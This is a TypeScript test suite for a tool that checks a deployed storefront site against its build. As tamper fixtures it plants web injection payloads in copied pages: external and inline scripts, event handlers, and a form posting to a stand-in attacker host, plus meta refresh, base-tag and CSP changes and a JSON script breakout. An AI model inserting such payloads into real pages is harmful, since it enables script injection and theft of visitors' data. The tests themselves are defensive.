import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import zlib from 'node:zlib'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { readBrandConfig } from '../../.ci/brand/brand.ts'
import { configureSite } from '../../.ci/brand/configure.ts'
import { openFolderSite, openWebSite } from '../../.ci/site/deployed-site.ts'
import { prerenderSite } from '../../.ci/prerender/prerender.ts'
import { serveSite } from '../../.ci/site/serve.ts'
import { ensureCurrentSite } from '../../.ci/site/site.ts'
import { readSite } from '../../.ci/site/sums.ts'
import { compareSites, run } from '../../.ci/release/verify.ts'
import { openSandbox } from '../kit/shop.ts'
import { tinyDataset } from '../sandbox/kit/tiny-dataset.ts'
import { captureRun, type CapturedRun } from './captured-run.ts'
import { createSiteFolder } from './site-folder.ts'

const verify = suite<{ built: ReadonlyMap<string, Uint8Array>; prerendered: string; copy: (site?: string) => string }>(
  'the comparison of a site with these sources',
)

const SAME = { changed: [], missing: [], extra: [] }
const append = (folder: string, name: string): void => fs.appendFileSync(path.join(folder, name), ' ')

const runVerify = (...args: readonly string[]): Promise<CapturedRun> => captureRun(() => run(args))

verify.before(async context => {
  const site = await ensureCurrentSite(await readBrandConfig())
  context.built = readSite(site)
  const copies = createSiteFolder()
  context.copy = (from = site) => {
    const folder = path.join(fs.mkdtempSync(path.join(copies, 'of-')), 'site')
    fs.cpSync(from, folder, { recursive: true })
    return folder
  }
  context.prerendered = context.copy()
  const sandbox = await openSandbox({ world: { ...tinyDataset, whiteLabel: 'caplya' } })
  await prerenderSite(context.prerendered, { api: sandbox.url, site: 'https://shop.example' })
  await sandbox.close()
})

verify('an unchanged folder passes, and each changed, missing or extra file is named', async ({ built, copy }) => {
  const folder = copy()
  assert.equal(await compareSites(built, openFolderSite(folder)), SAME)
  append(folder, 'brands/caplya/logo.svg')
  append(folder, 'offline-worker.js')
  fs.rmSync(path.join(folder, 'licences.txt'))
  fs.writeFileSync(path.join(folder, 'assets/counter.js'), 'steal()')
  assert.equal(await compareSites(built, openFolderSite(folder)), {
    changed: ['brands/caplya/logo.svg', 'offline-worker.js'],
    missing: ['licences.txt'],
    extra: ['assets/counter.js'],
  })
})

/** Lists the prerendered pages of dishes. */
const listDishPages = (folder: string): readonly string[] =>
  [...readSite(folder).keys()].filter(name => /^menus\/\d+\/positions\/\d+\.html$/.test(name)).sort()

/** Adds files to the list of prerendered pages. */
function addToList(folder: string, ...names: readonly string[]): void {
  const file = path.join(folder, 'prerendered.json')
  fs.writeFileSync(file, JSON.stringify({ files: [...JSON.parse(fs.readFileSync(file, 'utf8')).files, ...names] }))
}

verify(
  '[MENU-18] prerendered pages are the API’s texts in the build’s page, and extras are named',
  async ({ built, prerendered, copy }) => {
    const folder = copy(prerendered)
    const [dish = '', other = ''] = listDishPages(folder)
    assert.equal(await compareSites(built, openFolderSite(folder)), SAME)
    const { url, close } = await serveSite(folder)
    assert.equal(await compareSites(built, openWebSite(url)), SAME, 'over the web too')
    await close()
    for (const name of ['auth.html', 'menus/7/more.html', 'assets/counter.js', 'more.html', 'undefined.html']) {
      fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true })
      fs.copyFileSync(path.join(folder, other), path.join(folder, name))
    }
    addToList(
      folder,
      'auth.html',
      'menus/7/more.html',
      'assets/counter.js',
      '../index.html',
      'menus/999.html',
      'undefined.html',
    )
    fs.rmSync(path.join(folder, dish))
    const extra = ['assets/counter.js', 'auth.html', 'menus/7/more.html', 'more.html', 'undefined.html']
    assert.equal(await compareSites(built, openFolderSite(folder)), {
      changed: [],
      missing: [dish, 'menus/999.html'].sort(),
      extra,
    })
    fs.writeFileSync(path.join(folder, 'prerendered.json'), '<!doctype html>')
    const { extra: all } = await compareSites(built, openFolderSite(folder))
    for (const name of [other, 'prerendered.json', 'sitemap.xml', ...extra]) assert.ok(all.includes(name), name)
  },
)

verify(
  '[MENU-18, CFG-02] a prerendered page with a foreign script, style, policy or link is named',
  async ({ built, prerendered, copy }) => {
    const folder = copy(prerendered)
    const [dish = '', packed = ''] = listDishPages(folder)
    const read = (name: string): string => fs.readFileSync(path.join(folder, name), 'utf8')
    const planted = new Map<string, string>()
    const image = '<img src="https://api.fox.example/1.jpg" alt="" width="1" height="1"'
    const onAnyPage = [
      ['</main>', '<script src="https://evil.example/1.js"></script></main>'],
      ['</main>', '<SCRIPT>steal()</SCRIPT></main>'],
      ['</main>', '<scr<b>ipt>steal()</script></main>'],
      ['</main>', `${image} onerror="steal()"></main>`],
      ['</main>', '<form action="https://evil.example"><input name="code"></form></main>'],
      ['</main>', '<a href="https://evil.example">1</a></main>'],
      ['</main>', '<a href="//evil.example">1</a></main>'],
      ['</main>', '<a href="javascript:steal()">1</a></main>'],
      ['</main>', '<iframe src="https://evil.example"></iframe></main>'],
      ['<div id="app"', '<p>1</p><div id="app"'],
      ['<title>', '<meta http-equiv="refresh" content="0;url=https://evil.example"><title>'],
      ['<title>', '<base href="https://evil.example/"><title>'],
      ['<title>', '<link rel="stylesheet" href="https://evil.example/1.css"><title>'],
      ['<title>', '<meta name="referrer" content="unsafe-url"><title>'],
      ['<title>', 'words<title>'],
      ['<script type="application/ld+json">', '<script type="text/javascript">'],
      ['<script type="application/ld+json">', '<script type="application/ld+json" src="/1.js">'],
      ["script-src 'self'", "script-src 'self' https://evil.example"],
      ['</head>', '<script>steal()</script></head>'],
      ['</html>', '</html><script>steal()</script>'],
      ['<html lang="ru"', '<html lang="en"'],
      ['</main>', '<a href="/menus/1?next=https://evil.example">1</a></main>'],
      ['"apiBase":"', '"apiBase":"https://evil.example/'],
    ] as const
    // the page of a dish has a dialog, and no main element
    const onLayer = [
      ...onAnyPage.map(change => change.map(text => text.replace('</main>', '</h1>'))),
      ['role="dialog"', 'role="dialog" onclick="steal()"'],
      ['role="dialog"', 'role="dialog" style="display:none"'],
      ['<noscript>', '<noscript><a href="https://evil.example">1</a>'],
    ]
    const onShopPage = [
      ['<main id="main"', '<main style="display:none" id="main"'],
      ['<main id="main"', '<main onclick="steal()" id="main"'],
      ['"responses":', '"</script><script>steal()</script>":1,"responses":'],
    ] as const
    const plants = [
      ...onLayer.map(([before = '', after = '']) => [dish, before, after] as const),
      ...[...onAnyPage, ...onShopPage].map(([before, after]) => ['menus/101.html', before, after] as const),
    ]
    for (const [page, before, after] of plants) {
      const name = `menus/7-${planted.size}.html`
      assert.ok(read(page).includes(before), before)
      fs.writeFileSync(path.join(folder, name), read(page).replace(before, () => after))
      planted.set(name, after)
    }
    addToList(folder, ...planted.keys())
    fs.writeFileSync(path.join(folder, dish), read(dish).replace(/<h1[^>]*>/, '$&Other words, '))
    fs.writeFileSync(
      path.join(folder, `${packed}.br`),
      zlib.brotliCompressSync(read(packed).replace('</h1>', '<script>steal()</script></h1>')),
    )
    fs.writeFileSync(
      path.join(folder, 'sitemap.xml'),
      read('sitemap.xml').replace('<url>', '<script xmlns="http://www.w3.org/1999/xhtml">steal()</script><url>'),
    )
    const { changed, ...others } = await compareSites(built, openFolderSite(folder))
    assert.equal(changed.flatMap(name => planted.get(name) ?? []).sort(), [...planted.values()].sort())
    assert.equal(
      changed.filter(name => !planted.has(name)),
      [`${packed}.br`, 'sitemap.xml'],
    )
    assert.equal(others, { missing: [], extra: [] })
  },
)

verify('a packed copy passes with equal content in any packing, and is named otherwise', async ({ built, copy }) => {
  const folder = copy()
  const contents = fs.readFileSync(path.join(folder, 'offline-worker.js'))
  fs.writeFileSync(path.join(folder, 'offline-worker.js.gz'), zlib.gzipSync(contents, { level: 1 }))
  fs.writeFileSync(
    path.join(folder, 'brands/caplya/icon.png.gz'),
    zlib.gzipSync(fs.readFileSync(path.join(folder, 'brands/caplya/icon.png'))),
  )
  assert.equal(await compareSites(built, openFolderSite(folder)), SAME)
  fs.writeFileSync(
    path.join(folder, 'offline-worker.js.br'),
    zlib.brotliCompressSync(Buffer.concat([contents, Buffer.from(' ')])),
  )
  fs.writeFileSync(path.join(folder, 'index.html.gz'), 'not packed at all')
  fs.writeFileSync(path.join(folder, 'brands/caplya/icon.png.gz'), zlib.gzipSync('another picture'))
  assert.equal(await compareSites(built, openFolderSite(folder)), {
    ...SAME,
    changed: ['brands/caplya/icon.png.gz', 'index.html.gz', 'offline-worker.js.br'],
  })
})

verify(
  'a checksum list of other files is named, one that differs only in compressed copies is not',
  async ({ built, copy }) => {
    const folder = copy()
    const file = path.join(folder, 'SHA256SUMS')
    const text = fs.readFileSync(file, 'utf8')
    fs.writeFileSync(file, text.replace(/^[0-9a-f]{64}(?= {2}index\.html\.br$)/m, '0'.repeat(64)))
    assert.equal(await compareSites(built, openFolderSite(folder)), SAME)
    fs.writeFileSync(file, text.replace(/^[0-9a-f]{64}(?= {2}index\.html$)/m, '0'.repeat(64)))
    assert.equal(await compareSites(built, openFolderSite(folder)), { ...SAME, changed: ['SHA256SUMS'] })
  },
)

verify(
  'a running site is read as browsers read it, and its list names the extra files',
  async ({ built, copy }) => {
    const folder = copy()
    const { url, close } = await serveSite(folder)
    assert.equal(await compareSites(built, openWebSite(url)), SAME)
    const page = fs.readFileSync(path.join(folder, 'index.html'), 'utf8')
    fs.writeFileSync(
      path.join(folder, 'index.html.br'),
      zlib.brotliCompressSync(page.replace('<body>', '<body><script src="https://evil.example"></script>')),
    )
    fs.rmSync(path.join(folder, 'licences.txt'))
    fs.writeFileSync(path.join(folder, 'hidden.js'), 'unlisted')
    fs.appendFileSync(path.join(folder, 'SHA256SUMS'), `${'0'.repeat(64)}  more.js\n`)
    assert.equal(await compareSites(built, openWebSite(url)), {
      changed: ['SHA256SUMS', 'index.html.br'],
      missing: ['licences.txt', 'licences.txt.br', 'licences.txt.gz'],
      extra: ['more.js'],
    })
    await close()
  },
)

verify('a redirect is not followed, and an endless response is not read to its end', async ({ built }) => {
  let requests = 0
  const elsewhere = http.createServer((_, response) => {
    requests += 1
    response.end('inside')
  })
  const site = http.createServer((request, response) => {
    if (request.url === '/')
      return void response.writeHead(302, { Location: `http://127.0.0.1:${getPort(elsewhere)}/` }).end()
    if (request.url !== '/licences.txt') return void response.writeHead(404).end()
    const more = (): void => { while (!response.destroyed && response.write(Buffer.alloc(1_000_000))); }
    response.on('drain', more)
    more()
  })
  const getPort = (server: http.Server): number => (server.address() as AddressInfo).port
  const listen = (server: http.Server): Promise<void> =>
    new Promise(resolve => { server.listen(0, '127.0.0.1', resolve) })
  await Promise.all([elsewhere, site].map(listen))
  try {
    const url = `http://127.0.0.1:${getPort(site)}`
    const { code, text } = await runVerify(url)
    assert.is(code, 2)
    assert.match(text, `${url}/ redirects to http://127.0.0.1:${getPort(elsewhere)}/`)
    assert.is(requests, 0)
    const one = new Map([...built].filter(([name]) => name === 'licences.txt'))
    assert.equal(await compareSites(one, openWebSite(url)), { ...SAME, changed: ['licences.txt'] })
  } finally {
    for (const server of [elsewhere, site]) {
      server.closeAllConnections()
      server.close()
    }
  }
})

verify('a 404 is a missing file; a failing or broken answer ends with 2 and is named', async ({ built }) => {
  const one = new Map([...built].filter(([name]) => name === 'licences.txt'))
  let respond: (response: http.ServerResponse) => void = () => undefined
  const site = http.createServer(({ url }, response) =>
    url === '/prerendered.json' || url === '/SHA256SUMS' ? void response.writeHead(404).end() : respond(response),
  )
  await new Promise<void>(resolve => { site.listen(0, '127.0.0.1', resolve) })
  const url = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
  for (const status of [404, 410]) {
    respond = response => void response.writeHead(status).end()
    assert.equal(await compareSites(one, openWebSite(url)), { ...SAME, missing: ['licences.txt'] })
  }
  respond = response => void response.writeHead(200, { 'Content-Encoding': 'gzip' }).end('not packed at all')
  assert.equal(await compareSites(one, openWebSite(url)), { ...SAME, changed: ['licences.txt'] })
  for (const status of [403, 429, 500, 503]) {
    respond = response => void response.writeHead(status).end()
    assert.match(
      await compareSites(one, openWebSite(url)).then(String, String),
      new RegExp(`${url}/licences\\.txt could not be loaded: status ${status}`),
    )
  }
  respond = response => {
    response.writeHead(200, { 'Content-Length': 1000 }).write('half', () => response.destroy())
  }
  const error = await compareSites(one, openWebSite(url)).then(String, String)
  assert.match(error, `${url}/licences.txt could not be loaded: `)
  const { code, text } = await runVerify(url)
  assert.is(code, 2)
  assert.match(text, `${url}/ could not be loaded: `)
  site.closeAllConnections()
  site.close()
})

verify('[CFG-02] builds with the other page’s configuration, and ends with 1 when a file differs', async ({ copy }) => {
  const folder = copy()
  await configureSite(folder, {
    apiBase: 'https://api.fox.example',
    links: { support: 'https://fox.example/help' },
    locales: ['ru'],
  })
  const { code, text } = await runVerify(folder)
  assert.is(code, 0, text)
  assert.match(text, /^ {2}apiBase: "https:\/\/api\.fox\.example"$/m)
  assert.match(text, /^ {2}links\.support: /m)
  assert.match(text, `${folder} is what these sources build: `)
  const { url, close } = await serveSite(folder)
  const built = readSite(folder)
  append(folder, 'index.html')
  const web = await captureRun(() => run([url], { build: async () => built }))
  await close()
  assert.is(web.code, 1)
  assert.match(web.text, /^changed {2}index\.html$/m)
  assert.match(
    web.text,
    /is not what these sources build: 1 changed, 0 missing, 0 extra of \d+ files\nA web site cannot be listed/,
  )
})

verify('the command ends with 2 and the reason when there is nothing to compare', async () => {
  const folder = createSiteFolder()
  const page = (block: string): string => {
    const other = fs.mkdtempSync(path.join(folder, 'page-'))
    fs.writeFileSync(
      path.join(other, 'index.html'),
      `<script type="application/json" id="storefront-config">${block}</script>`,
    )
    return other
  }
  const odd = path.join(folder, 'odd')
  fs.mkdirSync(path.join(odd, 'index.html'), { recursive: true })
  for (const [where, message] of [
    [[], /^Usage: npm run verify/],
    [['one', 'two'], /^Usage/],
    [[path.join(folder, 'none')], /none has no index\.html/],
    [[folder], /No brand undefined/],
    [[odd], /has no index\.html/],
    [['http://127.0.0.1:1'], /could not be loaded/],
    [['http://'], /is not a web address/],
    [[page('null')], /configuration block/],
    [[page('{"brand":')], /configuration block/],
    [['http://127.0.0.1:1/no/shop'], /^Only a whole shop .*npm run verify -- http:\/\/127\.0\.0\.1:1$/],
    [['http://127.0.0.1:1/?lang=en'], /^Only a whole shop /],
  ] as const) {
    const { code, text } = await runVerify(...where)
    assert.is(code, 2, text)
    assert.match(text, message)
    assert.not.match(text, /\n +at /)
  }
})

verify('control characters of the other page are removed before printing', async ({ built, copy }) => {
  const folder = copy()
  const file = path.join(folder, 'index.html')
  const page = fs.readFileSync(file, 'utf8')
  const writeValues = (values: object): void =>
    fs.writeFileSync(
      file,
      page.replace(
        /(id="storefront-config">)([^<]*)/,
        (_, open: string, text: string) => open + JSON.stringify({ ...JSON.parse(text), ...values }),
      ),
    )
  writeValues({ maps: { gazetteer: '/\u001b[2J.bin' } })
  const { code, text } = await runVerify(folder)
  assert.is(code, 2, text)
  writeValues({ '\u001b[2J\u009b1mshop\n\rOK': 1 })
  const { text: more } = await captureRun(() => run([folder], { build: async () => built }))
  assert.match(more, /^The configuration of the other site: .*shop OK is not a field/m)
  assert.not.match(text + more, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
})

verify.run()
